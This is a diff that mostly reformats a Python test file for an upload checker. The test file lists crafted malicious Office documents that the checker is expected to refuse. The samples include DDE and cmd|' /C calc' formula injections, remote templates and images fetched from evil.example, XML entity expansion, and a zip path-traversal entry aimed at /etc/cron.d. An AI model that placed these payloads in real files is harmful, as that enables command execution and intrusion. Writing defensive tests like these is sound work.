@@ -107,8 +107,12 @@ def macros() -> bytes:
     return makers.word_with({"[Content_Types].xml": types, "word/vbaProject.bin": OLE})
 
 
-FIELD = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
-SPLIT_DDE = FIELD.format("<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\x</w:instrText></w:r>")
+FIELD = (
+    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+)
+SPLIT_DDE = FIELD.format(
+    "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\x</w:instrText></w:r>"
+)
 DOCTYPE = '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "b">]>'
 DOCUMENT = makers.parts_of(makers.word())["word/document.xml"].decode()  # type: ignore[union-attr]
 
@@ -120,7 +124,9 @@ HARMFUL = {
     "altchunk part.docx": makers.word_with({"word/afchunk.mht": b"MIME-Version: 1.0"}),
     "altchunk.docx": makers.word_with(body='<w:altChunk r:id="rIdX"/>'),
     "object.docx": makers.word_with(body="<w:p><w:r><w:object/></w:r></w:p>"),
-    "template.docx": makers.relation("attachedTemplate", "http://evil.example/t.dotm", where="word/_rels/settings.xml.rels"),
+    "template.docx": makers.relation(
+        "attachedTemplate", "http://evil.example/t.dotm", where="word/_rels/settings.xml.rels"
+    ),
     "picture from outside.docx": makers.relation("image", "http://evil.example/a.png"),
     "picture from a share.docx": makers.relation("image", "\\\\evil\\a.png", mode=""),
     "frame.docx": makers.relation("frame", "http://evil.example/"),
@@ -128,17 +134,25 @@ HARMFUL = {
     "link to a script.docx": makers.relation("hyperlink", "javascript:alert(1)"),
     "dde.docx": makers.word_with(body=SPLIT_DDE),
     "dde simple.docx": makers.word_with(body='<w:p><w:fldSimple w:instr="DDE excel x"/></w:p>'),
-    "include.docx": makers.word_with(body=FIELD.format('<w:r><w:instrText>INCLUDEPICTURE "http://e"</w:instrText></w:r>')),
-    "dde spelled.docx": makers.word_with(body=FIELD.format("<w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r>")),
-    "entities.docx": makers.word_with(document=DOCUMENT.replace("<?xml version='1.0' encoding='UTF-8' standalone='yes'?>", DOCTYPE)),
+    "include.docx": makers.word_with(
+        body=FIELD.format('<w:r><w:instrText>INCLUDEPICTURE "http://e"</w:instrText></w:r>')
+    ),
+    "dde spelled.docx": makers.word_with(
+        body=FIELD.format("<w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r>")
+    ),
+    "entities.docx": makers.word_with(
+        document=DOCUMENT.replace("<?xml version='1.0' encoding='UTF-8' standalone='yes'?>", DOCTYPE)
+    ),
     "nested.docx": makers.word_with(body="<w:p>" * 5000 + "</w:p>" * 5000),
     "damaged xml.docx": makers.word_with({"word/document.xml": DOCUMENT[:-20]}),
     "doc in doc.docx": makers.word_with({"word/inner.docx": makers.word()}),
     "escape.docx": makers.word_with({"../../etc/cron.d/x": b"x"}),
     "far cell.xlsx": makers.workbook('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
-    "far merge.xlsx": makers.workbook('</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells><sheetData>'),
+    "far merge.xlsx": makers.workbook(
+        '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells><sheetData>'
+    ),
     "webservice.xlsx": makers.workbook('<row r="1"><c r="A1"><f>_xlfn.WEBSERVICE("http://e/")</f></c></row>'),
-    "command.xlsx": makers.workbook("<row r=\"1\"><c r=\"A1\"><f>cmd|' /C calc'!A0</f></c></row>"),
+    "command.xlsx": makers.workbook('<row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f></c></row>'),
     "outside links.xlsx": makers.workbook(**{"xl/externalLinks/externalLink1.xml": "<a/>"}),
     "connections.xlsx": makers.workbook(**{"xl/connections.xml": "<a/>"}),
     "old macros.xlsx": makers.workbook(**{"xl/macrosheets/sheet1.xml": "<a/>"}),
@@ -196,7 +210,9 @@ def test_a_file_that_is_not_what_its_name_says_is_refused(name: str) -> None:
     assert answer.code == "file_not_what_it_says"
 
 
-@pytest.mark.parametrize("name", ["a.doc", "a.docm", "a.xlsm", "a.zip", "a.html", "a.svg", "a.exe", "a", "a.heic"])
+@pytest.mark.parametrize(
+    "name", ["a.doc", "a.docm", "a.xlsm", "a.zip", "a.html", "a.svg", "a.exe", "a", "a.heic"]
+)
 def test_other_kinds_are_refused_and_the_page_says_what_to_save_instead(name: str) -> None:
     answer = check_upload(name, b"anything")
     assert isinstance(answer, Refused)
@@ -276,7 +292,9 @@ def test_damaged_files_get_an_answer_and_never_an_error(ending: str) -> None:
     import random
 
     chance = random.Random(ending)  # noqa: S311 - repeatable damage
-    good = next(data for name, data in GOOD.items() if name.lower().endswith((ending, ending.replace("jpg", "jpeg"))))
+    good = next(
+        data for name, data in GOOD.items() if name.lower().endswith((ending, ending.replace("jpg", "jpeg")))
+    )
     for _ in range(150):
         data = bytearray(good)
         for _ in range(chance.randrange(1, 8)):
@@ -306,7 +324,9 @@ def test_a_very_long_name_keeps_its_ending() -> None:
     assert len(clean_name("a" * 400 + ".pdf")) <= 150
 
 
-@pytest.mark.parametrize("text", ["<" * 1_000_000, "%\r" * 500_000, "1 " * 500_000, "A1:" * 300_000, "\n" * 1_000_000])
+@pytest.mark.parametrize(
+    "text", ["<" * 1_000_000, "%\r" * 500_000, "1 " * 500_000, "A1:" * 300_000, "\n" * 1_000_000]
+)
 def test_no_text_makes_a_pattern_run_away(text: str) -> None:
     started = time.perf_counter()
     check_upload("a.csv", text.encode())
